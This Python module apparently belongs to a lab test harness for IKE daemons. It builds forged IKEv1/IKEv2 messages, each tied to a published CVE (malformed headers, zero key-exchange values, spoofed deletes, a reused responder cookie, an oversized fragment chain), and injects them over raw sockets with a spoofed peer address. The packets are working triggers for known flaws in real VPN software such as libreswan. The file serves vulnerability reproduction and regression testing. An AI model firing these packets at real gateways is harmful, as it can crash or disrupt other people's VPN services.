# SPDX-License-Identifier: GPL-2.0-or-later
"""Single forged messages, each after a published flaw of an IKE daemon, and what comes back."""

from __future__ import annotations

import hashlib
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .lab import Lab
from .wire import Capture, kind

_SENDER = Path(__file__).with_name("sender.py")
_MAIN, _AGGRESSIVE, _INFORMATIONAL = 2, 4, 5
_SA, _KE, _ID, _NONCE, _NOTIFY, _DELETE = 1, 4, 5, 10, 11, 12
_ENCRYPTED = 1
# AES-256, SHA2-256, preshared key, MODP2048
_TRANSFORM = bytes.fromhex("00000024 0001 0000 800b0001 800c7080 80010007 80020004 80030001 8004000e 800e0100")
_SA_INIT, _INFORMATIONAL_2, _AUTH = 34, 37, 35
_SA_2, _KE_2, _NONCE_2, _NOTIFY_2, _SK, _SKF, _UNKNOWN = 33, 34, 40, 41, 46, 53, 200
# AES-256, SHA2-256 and its half, MODP2048
_ENCR, _PRF, _INTEG, _DH = "0100000c800e0100", "02000005", "0300000c", "0400000e"


@dataclass(frozen=True)
class Known:
    """What a forger has seen: both cookies of an SA that is up, and those that the target answered others' with."""

    up: bytes
    answered: dict[bytes, bytes]


def cookie(name: str) -> bytes:
    """The initiator's cookie (or SPI) of a forged message: every one begins something of its own."""
    return hashlib.sha256(name.encode()).digest()[:8]


def _message(first: int, exchange: int, body: bytes, cookies: bytes, flags: int = 0, number: int = 0) -> bytes:
    length = (28 + len(body)).to_bytes(4, "big")
    version = 0x20 if exchange >= _SA_INIT else 0x10
    return cookies + bytes([first, version, exchange, flags]) + number.to_bytes(4, "big") + length + body


def _first(name: str, first: int, exchange: int, body: bytes) -> bytes:
    return _message(first, exchange, body, cookie(name) + bytes(8), 8 if exchange == _SA_INIT else 0)


def _payload(after: int, body: bytes) -> bytes:
    return bytes([after, 0]) + (4 + len(body)).to_bytes(2, "big") + body


def _sa(after: int, situation: int = 1, transform: bytes = _TRANSFORM) -> bytes:
    proposal = _payload(0, bytes([0, 1, 0, 1]) + transform)
    return _payload(after, (1).to_bytes(4, "big") + situation.to_bytes(4, "big") + proposal)


def _aggressive(name: str, gx: bytes, transform: bytes = _TRANSFORM) -> bytes:
    body = _sa(_KE, transform=transform) + _payload(_NONCE, gx) + _payload(_ID, bytes(16)) + _payload(0, b"\x02\0\0\0west")
    return _first(name, _SA, _AGGRESSIVE, body)


def _sa_2(after: int, *transforms: str) -> bytes:
    body = b""
    for n, transform in enumerate(transforms):
        content = bytes.fromhex(transform)
        body += bytes([3 if n + 1 < len(transforms) else 0, 0]) + (4 + len(content)).to_bytes(2, "big") + content
    return _payload(after, _payload(0, bytes([1, 1, 0, len(transforms)]) + body))


_KE_BODY = (14).to_bytes(2, "big") + bytes(2) + bytes([2]) * 256
_CAN_DO_FRAGMENTS = bytes([0, 0]) + (16430).to_bytes(2, "big")


def _init(name: str, *transforms: str) -> bytes:
    given = _sa_2(_KE_2, *transforms) + _payload(_NONCE_2, _KE_BODY) + _payload(_NOTIFY_2, bytes(32)) + _payload(0, _CAN_DO_FRAGMENTS)
    return _first(name, _SA_2, _SA_INIT, given)


def _after_init(known: Known, first: int, exchange: int, body: bytes, number: int = 1) -> bytes:
    mine = cookie("half-open")
    return _message(first, exchange, body, mine + known.answered.get(mine, bytes(8)), 8, number)


_ISAKMP = (1).to_bytes(4, "big") + b"\x01"

FLAWS: dict[str, Callable[[str, Known], bytes]] = {
    # CVE-2013-4564: the header ends before the version, or has one that nobody speaks
    "short-header": lambda name, known: cookie(name) + bytes(9),
    "no-version": lambda name, known: _first(name, _SA, _MAIN, _sa(0))[:17] + bytes([0x30]) + _first(name, _SA, _MAIN, _sa(0))[18:],
    # CVE-2016-5361: an answer that is sent again and again to who never asked
    "first-message": lambda name, known: _first(name, _SA, _MAIN, _sa(0)),
    # CVE-2015-3240: a public value of zero
    "zero-group-value": lambda name, known: _aggressive(name, bytes(256)),
    "short-group-value": lambda name, known: _aggressive(name, bytes([2]) * 16),
    "no-identity": lambda name, known: _first(name, _SA, _AGGRESSIVE, _sa(_KE) + _payload(0, bytes([2]) * 256)),
    # CVE-2015-3204: all bits of the situation, and a payload of a type that is taken for another
    "situation": lambda name, known: _first(name, _SA, _MAIN, _sa(0, situation=0xFFFFFFFF)),
    "old-nat-detection": lambda name, known: _first(name, _SA, _MAIN, _sa(15) + _payload(0, bytes(20))),
    # CVE-2022-23094: malformed where there is no state yet
    "malformed": lambda name, known: _first(name, _SA, _MAIN, _sa(0)[:-10] + bytes(10)),
    "malformed-aggressive": lambda name, known: _first(name, _SA, _AGGRESSIVE, _sa(_KE)[:-4] + bytes(4)),
    # CVE-2020-1763: encrypted, for an SA that there is not
    "unknown-informational": lambda name, known: _message(8, _INFORMATIONAL, bytes(64), cookie(name) * 2, _ENCRYPTED, 7),
    # CVE-2019-10155: encrypted, but with other keys
    "forged-informational": lambda name, known: _message(8, _INFORMATIONAL, bytes(64), known.up, _ENCRYPTED, 7),
    "clear-delete": lambda name, known: _message(
        _DELETE, _INFORMATIONAL, _payload(0, _ISAKMP + bytes([16, 0, 1]) + known.up), known.up, 0, 9
    ),
    "clear-notification": lambda name, known: _message(
        _NOTIFY, _INFORMATIONAL, _payload(0, _ISAKMP + bytes([16, 0, 4]) + known.up), known.up, 0, 11
    ),
    # CVE-2023-30570, which libreswan 4.10 has: proposals that are refused, then the refuser's cookie as the sender's own
    "refused-group": lambda name, known: _aggressive(
        name, bytes([2]) * 256, _TRANSFORM.replace(bytes.fromhex("8004000e"), bytes.fromhex("80040001"))
    ),
    "turned-cookie": lambda name, known: _message(
        _SA, _AGGRESSIVE, _sa(0), known.answered.get(cookie("refused-group"), cookie(name)) + bytes(8)
    ),
    # CVE-2013-6467: payloads that a first message of IKEv2 must have are not there
    "no-key-exchange": lambda name, known: _first(
        name, _SA_2, _SA_INIT, _sa_2(_NONCE_2, _ENCR, _PRF, _INTEG, _DH) + _payload(0, bytes(32))
    ),
    "no-nonce": lambda name, known: _first(name, _SA_2, _SA_INIT, _sa_2(_KE_2, _ENCR, _PRF, _INTEG, _DH) + _payload(0, _KE_BODY)),
    # CVE-2016-3071: AES-XCBC
    "xcbc": lambda name, known: _init(name, _ENCR, "02000004", "03000005", _DH),
    # CVE-2016-5391: a proposal without a group
    "no-group": lambda name, known: _init(name, _ENCR, _PRF, _INTEG),
    # CVE-2019-12312: an INFORMATIONAL exchange where IKE_AUTH is due
    "half-open": lambda name, known: _init(name, _ENCR, _PRF, _INTEG, _DH),
    "no-auth": lambda name, known: _after_init(known, _SK, _INFORMATIONAL_2, _payload(0, bytes(80))),
    # CVE-2026-12413, which libreswan 4.10 has: a fragment among more payloads than there is room for
    "crowded-fragment": lambda name, known: _after_init(
        known, _UNKNOWN, _AUTH, _payload(_UNKNOWN, b"") * 29 + _payload(_SKF, b"") + _payload(0, bytes([0, 1, 0, 2]) + bytes(80))
    ),
}


def known(messages: list[tuple[str, str, bytes]]) -> Known:
    up, answered = bytes(16), {}
    for _, _, message in messages:
        if any(message[8:16]):
            answered[message[:8]] = message[8:16]
            if message[19] & _ENCRYPTED and message[17] == 0x10 and message[18] != _INFORMATIONAL:
                up = message[:16]
    return Known(up, answered)


def _messages(file: Path) -> list[tuple[str, str, bytes]]:
    """Source, target and IKE message of every datagram on port 500."""
    found = []
    for frame in Capture(file).frames():
        packet = frame[14:]
        if kind(frame) == "ike" and packet[0] >> 4 == 4:
            ends = [".".join(map(str, packet[at : at + 4])) for at in (12, 16)]
            message = packet[(packet[0] & 15) * 4 + 8 :]
            if len(message) >= 28:
                found.append((ends[0], ends[1], message))
    return found


@dataclass(frozen=True)
class Forged:
    """How long the forged message was, and what the target answered to its cookie."""

    sent: int
    answers: list[str]
    lengths: list[int]


def forge(lab: Lab, name: str, target: str, seconds: float) -> Forged:
    """Sends the message of that name to `target` as if its peer had, and collects what the target sends within so many seconds."""
    before = _messages(lab.capture_file)
    message = FLAWS[name](name, known(before))
    peer = "192.0.2.1" if target != "192.0.2.1" else "192.0.2.2"
    program = f"import sys; sys.path.insert(0, {str(_SENDER.parent)!r}); import sender, socket; " + (
        "raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); "
        f"raw.sendto(sender.datagram({peer!r}, {target!r}, 500, bytes.fromhex({message.hex()!r})), ({target!r}, 0))"
    )
    subprocess.run(lab.cabling(f'exec {sys.executable} -c "{program}"'), check=True)
    time.sleep(seconds)
    after = _messages(lab.capture_file)[len(before) :]
    answers = [m for source, _, m in after if source == target and m[:8] == message[:8]]
    return Forged(len(message), [f"answered: exchange {m[18]}, {len(m)} octets" for m in answers], [len(m) for m in answers])
